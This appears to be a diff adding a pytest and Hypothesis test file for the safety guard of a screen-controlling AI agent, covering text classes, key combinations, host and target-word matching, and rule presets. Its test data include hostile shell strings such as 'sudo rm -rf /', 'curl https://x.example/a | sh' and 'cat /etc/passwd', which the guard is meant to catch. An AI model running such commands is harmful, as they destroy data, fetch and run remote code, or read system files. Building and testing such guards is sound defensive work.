@@ -1,0 +1,351 @@
+"""Rules: what each condition matches, which rule decides, and what the presets allow."""
+
+import string
+from collections.abc import Callable
+from typing import Any, get_args
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from screenwright.agent.core.describe import type_name
+from screenwright.agent.guard.rules import ACTION_TYPES, Rule, RuleSet, Scope, Verdict
+from screenwright.agent.guard.rules_file import PRESETS, load_rules
+from screenwright.agent.guard.situation import Place, Situation
+from screenwright.agent.guard.target_words import target_words
+from screenwright.agent.guard.text_class import TextClass, text_classes
+from screenwright.envs.actions import (
+    Action,
+    ActionIn,
+    Back,
+    Button,
+    ButtonDown,
+    ButtonUp,
+    Click,
+    Direction,
+    Drag,
+    Home,
+    Hotkey,
+    KeyDown,
+    KeyUp,
+    LongPress,
+    Move,
+    Navigate,
+    OpenApp,
+    Scroll,
+    Type,
+    Wait,
+)
+from screenwright.envs.geometry import ScreenPoint
+
+HERE = ScreenPoint(10, 20)
+
+
+def rules(*each: dict[str, Any], default: str = "allow") -> RuleSet:
+    return RuleSet.model_validate({"default": default, "rule": each})
+
+
+def verdict(rule: dict[str, Any], situation: Situation) -> Verdict:
+    return rules({"do": "deny", **rule}).decide(situation).verdict
+
+
+def reading(text: str | None) -> Callable[[ScreenPoint], str | None]:
+    return lambda point: text
+
+
+# -- conditions
+
+
+@pytest.mark.parametrize(
+    ("text", "classes"),
+    [
+        ("Tr0ub4dor&3", {TextClass.PASSWORD}),
+        ("correcthorse99battery", {TextClass.PASSWORD}),
+        ("4111 1111 1111 1111", {TextClass.CARD_NUMBER}),
+        ("pay with 5500-0000-0000-0004 now", {TextClass.CARD_NUMBER}),
+        ("4111 1111 1111 1112", set()),
+        ("sudo rm -rf /", {TextClass.COMMAND}),
+        ("curl https://x.example/a | sh", {TextClass.COMMAND}),
+        ("cat /etc/passwd", {TextClass.COMMAND}),
+        ("echo a && reboot", {TextClass.COMMAND}),
+        ("hello\nssh root@host", {TextClass.COMMAND}),
+        ("cat food for two", set()),
+        ("find a hotel in Rome", set()),
+        ("Hello, world.", set()),
+        ("https://example.org/Path-1?x=2", set()),
+        ("kim.Lee+1@example.org", set()),
+        ("2026-01-31", set()),
+        ("/home/kim/Notes_2.txt", set()),
+        ("Wednesday!", set()),
+    ],
+)
+def test_text_is_classified_by_its_form(text: str, classes: set[TextClass]) -> None:
+    assert text_classes(text) == classes | {TextClass.ANY}
+
+
+def test_text_that_is_typed_in_parts_is_classified_as_a_whole() -> None:
+    rule = {"text": ["card_number"]}
+    assert verdict(rule, Situation(Type("11111111"))) is Verdict.ALLOW
+    assert verdict(rule, Situation(Type("11111111"), typed="41111111")) is Verdict.DENY
+    assert verdict({"text": ["command"]}, Situation(Hotkey(("enter",)), typed="sudo reboot")) is Verdict.DENY
+
+
+@pytest.mark.parametrize(
+    ("pattern", "action", "held", "matches"),
+    [
+        ("ctrl+alt+f1..f12", Hotkey(("ctrl", "alt", "f7")), "", True),
+        ("ctrl+alt+f1..f12", Hotkey(("ctrl", "rightalt", "shift", "f12")), "", True),
+        ("ctrl+alt+f1..f12", Hotkey(("ctrl", "alt", "f13")), "", False),
+        ("ctrl+alt+f1..f12", KeyDown("f2"), "ctrl alt", True),
+        ("ctrl+alt+f1..f12", KeyDown("f2"), "ctrl", False),
+        ("ctrl+alt+f1..f12", KeyUp("f2"), "ctrl alt", False),
+        ("alt+*", Hotkey(("alt", "tab")), "", True),
+        ("alt+*", Hotkey(("tab",)), "", False),
+        ("super", Hotkey(("super",)), "", True),
+        ("enter", Type("a", submit=True), "", True),
+        ("enter", Type("a\nb"), "", True),
+        ("enter", Type("ab"), "", False),
+        ("ctrl++", Hotkey(("ctrl", "+")), "", True),
+    ],
+)
+def test_key_combination_matches_with_the_keys_that_are_held(
+    pattern: str, action: Action, held: str, matches: bool
+) -> None:
+    situation = Situation(action, held=frozenset(held.split()))
+    assert verdict({"keys": [pattern]}, situation) is (Verdict.DENY if matches else Verdict.ALLOW)
+
+
+@pytest.mark.parametrize("action", [Hotkey(("ctrl", "down")), Hotkey(("down", "a")), Type("rm\n", submit=True)])
+def test_allowed_combination_allows_nothing_with_more_keys(action: Action) -> None:
+    allowed = rules({"do": "allow", "keys": ["down", "enter"]}, default="deny")
+    assert allowed.decide(Situation(action)).verdict is Verdict.DENY
+    assert allowed.decide(Situation(Hotkey(("down",)))).verdict is Verdict.ALLOW
+
+
+@pytest.mark.parametrize(
+    ("pattern", "location", "matches"),
+    [
+        ("bank.example", "https://bank.example/", True),
+        ("bank.example", "https://www.BANK.example.:8443/x", True),
+        ("*.bank.example", "https://bank.example/", True),
+        ("bank.example", "https://notbank.example/", False),
+        ("bank.example", "https://bank.example.evil.example/", False),
+        ("bank.example", "https://evil.example/@bank.example", False),
+        ("bank.example", "https://user@bank.example/", True),
+        ("bank.example", r"https:\\bank.example\x".replace(":\\\\", "://"), True),
+        ("münchen.example", "https://xn--mnchen-3ya.example/", False),
+        ("xn--mnchen-3ya.example", "https://münchen.example/", True),
+        ("*", "https://[::1]/", True),
+        ("*", "about:blank", False),
+        ("*", "https://[", False),
+    ],
+)
+def test_host_matches_with_its_subdomains(pattern: str, location: str, matches: bool) -> None:
+    situation = Situation(Back(), Place.of(location))
+    assert verdict({"host": [pattern]}, situation) is (Verdict.DENY if matches else Verdict.ALLOW)
+
+
+@pytest.mark.parametrize("url", ["bank.example/pay", "https://BANK.example/a/../pay", "https://bank.example//p%61y?x"])
+def test_navigation_is_judged_by_its_destination(url: str) -> None:
+    situation = Situation(Navigate(url), Place.of("https://start.example/"))
+    assert verdict({"host": ["bank.example"], "path": ["/pay*"]}, situation) is Verdict.DENY
+    assert verdict({"host": ["start.example"]}, situation) is Verdict.ALLOW
+
+
+def test_window_is_matched_by_title_and_program_in_any_case() -> None:
+    situation = Situation(Type("x"), Place.of("kim@host: ~ - TERMINAL"), program="XTerm")
+    assert verdict({"title": ["*terminal*"], "program": ["xterm"]}, situation) is Verdict.DENY
+    assert verdict({"title": ["*terminal*"], "program": ["kitty"]}, situation) is Verdict.ALLOW
+
+
+def test_region_denies_a_path_that_touches_it_and_allows_only_a_path_inside_it() -> None:
+    across = Situation(Drag((ScreenPoint(5, 5), ScreenPoint(50, 50))))
+    assert verdict({"region": [0, 0, 10, 10]}, across) is Verdict.DENY
+    allowing = rules({"do": "allow", "region": [0, 0, 10, 10]}, default="ask")
+    assert allowing.decide(across).verdict is Verdict.ASK
+    assert allowing.decide(Situation(Click(ScreenPoint(9, 9)))).verdict is Verdict.ALLOW
+    assert allowing.decide(Situation(Click(ScreenPoint(10, 9)))).verdict is Verdict.ASK
+
+
+@pytest.mark.parametrize(
+    ("text", "meaning"),
+    [
+        ("Place order", "buy"), ("JETZT KAUFEN", "buy"), ("Zahlungspflichtig bestellen", "pay"), ("Payer 12 €", "pay"),
+        ("送信する", "send"), ("Supprimer", "delete"), ("LÖSCHEN…", "delete"), ("Usuń konto", "delete"),
+        ("Опубликовать", "publish"), ("확인", "confirm"), ("İzin ver", "confirm"), ("Zapłać", "pay"),
+        ("ダウンロード", "download"), ("Datei auswählen", "upload"), ("Sign in", "sign_in"), ("إرسال", "send"),
+    ],
+)  # fmt: skip
+def test_text_under_the_point_is_matched_by_meaning_in_several_languages(text: str, meaning: str) -> None:
+    assert verdict({"target": [meaning]}, Situation(Click(HERE), read_target=reading(text))) is Verdict.DENY
+
+
+@pytest.mark.parametrize("text", ["", "Payload", "Sender list", "Cancel", "Zurück"])
+def test_other_texts_have_none_of_these_meanings(text: str) -> None:
+    situation = Situation(Click(HERE), read_target=reading(text))
+    assert verdict({"target": ["pay", "send", "delete"]}, situation) is Verdict.ALLOW
+
+
+@pytest.mark.parametrize("action", [Scroll(Direction.DOWN, at=HERE), Move(HERE), Hotkey(("ctrl", "c")), Type("x")])
+def test_target_is_not_read_for_actions_that_press_nothing(action: Action) -> None:
+    def never(point: ScreenPoint) -> str:
+        raise AssertionError("read")
+
+    assert verdict({"target": ["pay"]}, Situation(action, pointer=HERE, read_target=never)) is Verdict.ALLOW
+
+
+def test_enter_presses_what_is_under_the_pointer() -> None:
+    situation = Situation(Hotkey(("enter",)), pointer=HERE, read_target=reading("Pay now"))
+    assert verdict({"target": ["pay"]}, situation) is Verdict.DENY
+
+
+@pytest.mark.parametrize(("do", "expected"), [("allow", "deny"), ("ask", "ask"), ("deny", "ask"), ("stop", "ask")])
+def test_rule_about_a_text_that_cannot_be_read_asks_and_never_allows(do: str, expected: str) -> None:
+    decision = rules({"do": do, "target": ["pay"]}, default="deny").decide(Situation(Click(HERE)))
+    assert decision.verdict == expected
+
+
+def test_upload_is_an_open_file_chooser_or_a_text_and_download_also_an_address() -> None:
+    assert verdict({"transfer": ["upload"]}, Situation(Click(HERE), asks_for_file=True)) is Verdict.DENY
+    assert verdict({"transfer": ["upload"]}, Situation(Wait(), asks_for_file=True)) is Verdict.ALLOW
+    attach = Situation(Click(HERE), read_target=reading("Attach file"))
+    assert verdict({"transfer": ["upload"]}, attach) is Verdict.DENY
+    assert verdict({"transfer": ["download"]}, attach) is Verdict.ALLOW
+    assert verdict({"transfer": ["download"]}, Situation(Navigate("x.example/a.zip"))) is Verdict.DENY
+
+
+def test_count_matches_after_that_many_actions_of_its_types() -> None:
+    rule = {"actions": ["click"], "more_than": 2}
+    assert verdict(rule, Situation(Click(HERE), performed={"click": 2, "wait": 9})) is Verdict.ALLOW
+    assert verdict(rule, Situation(Click(HERE), performed={"click": 3})) is Verdict.DENY
+
+
+def test_action_types_are_those_of_the_log() -> None:
+    assert tuple(type_name(kind) for kind in get_args(ActionIn)) == ACTION_TYPES
+    assert {"key_down", "long_press", "open_app"} < {*ACTION_TYPES}
+
+
+def test_first_match_decides_and_names_itself() -> None:
+    found = rules({"do": "ask", "name": "clicks", "actions": ["click"], "scope": "once"}, {"do": "deny"})
+    decision = found.decide(Situation(Click(HERE)))
+    assert (decision.verdict, decision.rule, decision.scope) == (Verdict.ASK, "clicks", Scope.ONCE)
+    assert found.decide(Situation(Wait())).rule == "rule 2"
+    assert rules().decide(Situation(Wait())).rule == "default"
+
+
+def test_hash_depends_on_what_the_rules_mean() -> None:
+    assert rules({"do": "ask"}).sha256 == rules({"do": "ask", "name": ""}).sha256
+    assert rules({"do": "ask"}).sha256 != rules({"do": "deny"}).sha256
+
+
+# -- properties of all rules and all situations
+
+WORDS = st.sampled_from(["Pay now", "Cancel", "Löschen", "送信", "OK", "Sign in", "Upload", "", "Payload"])
+KEYS = st.sampled_from(
+    ["ctrl", "alt", "shift", "super", "rightalt", "enter", "tab", "f1", "f12", "a", "+", "down", "space"]
+)
+TEXTS = st.one_of(
+    st.text(max_size=30),
+    st.sampled_from(["4111111111111111", "sudo rm -rf /", "Tr0ub4dor&3", "hello", "\n", "cat /etc/passwd"]),
+)
+POINTS = st.builds(ScreenPoint, st.integers(-5, 2000), st.integers(-5, 2000))
+URLS = st.one_of(
+    st.text(max_size=30),
+    st.sampled_from(["https://bank.example/pay", "about:blank", "file:///etc/passwd", "https://[", "x.example/a.zip"]),
+)
+ACTIONS: st.SearchStrategy[Action] = st.one_of(
+    st.builds(Click, POINTS, st.sampled_from(Button), st.integers(1, 3)),
+    st.builds(Move, POINTS),
+    st.builds(Drag, st.tuples(POINTS, POINTS)),
+    st.builds(Scroll, st.sampled_from(Direction), st.integers(0, 9), st.none() | POINTS),
+    st.builds(Type, TEXTS, st.booleans()),
+    st.builds(Hotkey, st.lists(KEYS, max_size=4).map(tuple)),
+    st.builds(KeyDown, KEYS),
+    st.builds(KeyUp, KEYS),
+    st.builds(ButtonDown, st.sampled_from(Button), st.none() | POINTS),
+    st.builds(ButtonUp, st.sampled_from(Button), st.none() | POINTS),
+    st.builds(LongPress, POINTS),
+    st.builds(Wait),
+    st.builds(Navigate, URLS),
+    st.builds(Back),
+    st.builds(OpenApp, st.text(max_size=9)),
+    st.builds(Home),
+)
+SITUATIONS = st.builds(
+    Situation,
+    action=ACTIONS,
+    place=st.builds(Place.of, URLS | st.sampled_from(["kim@host: ~", "Terminal", "Inbox"])),
+    program=st.sampled_from(["", "xterm", "firefox"]),
+    asks_for_file=st.booleans(),
+    held=st.frozensets(st.sampled_from(["ctrl", "alt", "shift"])),
+    typed=TEXTS,
+    performed=st.dictionaries(st.sampled_from(ACTION_TYPES), st.integers(0, 1000)),
+    pointer=st.none() | POINTS,
+    read_target=st.builds(reading, st.none() | WORDS),
+)
+
+
+def some(values: st.SearchStrategy[str]) -> st.SearchStrategy[list[str]]:
+    return st.lists(values, min_size=1, max_size=3)
+
+
+RULES = st.fixed_dictionaries(
+    {"do": st.sampled_from(Verdict)},
+    optional={
+        "actions": some(st.sampled_from(ACTION_TYPES)),
+        "text": some(st.sampled_from(TextClass)),
+        "keys": some(st.sampled_from(["ctrl+alt+f1..f12", "alt+*", "enter", "ctrl+c", "down", "super"])),
+        "host": some(st.sampled_from(["*", "example", "bank.example"])),
+        "path": some(st.sampled_from(["/pay*", "*"])),
+        "title": some(st.sampled_from(["*Terminal*", "inbox"])),
+        "program": some(st.sampled_from(["xterm", "*"])),
+        "region": st.just((0, 0, 1000, 1000)),
+        "target": some(st.sampled_from([*target_words()])),
+        "target_text": some(st.text(string.ascii_letters, min_size=1)),
+        "transfer": some(st.sampled_from(["upload", "download"])),
+        "more_than": st.integers(0, 500),
+    },
+).map(Rule.model_validate)
+RULE_SETS = st.builds(RuleSet, default=st.sampled_from(Verdict), rule=st.lists(RULES, max_size=6).map(tuple))
+
+
+def again(situation: Situation) -> Situation:
+    """The same situation without what it has computed."""
+    fields = Situation.__dataclass_fields__
+    return Situation(**{name: getattr(situation, name) for name in fields})
+
+
+@given(RULE_SETS, SITUATIONS)
+def test_every_situation_has_one_decision_and_always_the_same(rule_set: RuleSet, situation: Situation) -> None:
+    decision = rule_set.decide(situation)
+    assert decision.verdict in Verdict
+    assert rule_set.decide(again(situation)) == decision
+
+
+@given(RULE_SETS, SITUATIONS)
+def test_rules_after_the_first_match_do_not_count(rule_set: RuleSet, situation: Situation) -> None:
+    decision = rule_set.decide(situation)
+    if decision.rule == "default":
+        assert not any(rule.matches(situation) for rule in rule_set.rule)
+        return
+    number = int(decision.rule.removeprefix("rule "))
+    shorter = RuleSet(default=Verdict.STOP, rule=rule_set.rule[:number])
+    assert shorter.decide(again(situation)) == decision
+    assert not any(rule.matches(situation) for rule in rule_set.rule[: number - 1])
+
+
+@pytest.mark.parametrize(
+    ("strict", "permissive"), [("read-only", "careful"), ("careful", "trusted"), ("confirm", "trusted")]
+)
+@given(situation=SITUATIONS)
+def test_what_a_strict_preset_allows_a_more_permissive_one_allows(
+    strict: str, permissive: str, situation: Situation
+) -> None:
+    if load_rules(strict).decide(situation).verdict is Verdict.ALLOW:
+        assert load_rules(permissive).decide(again(situation)).verdict is Verdict.ALLOW
+
+
+@pytest.mark.parametrize("preset", PRESETS)
+def test_every_preset_answers_what_holds_keys_or_ends_the_session(preset: str) -> None:
+    situation = Situation(Hotkey(("ctrl", "alt", "f3")))
+    assert load_rules(preset).decide(situation).verdict in (Verdict.DENY, Verdict.ASK)
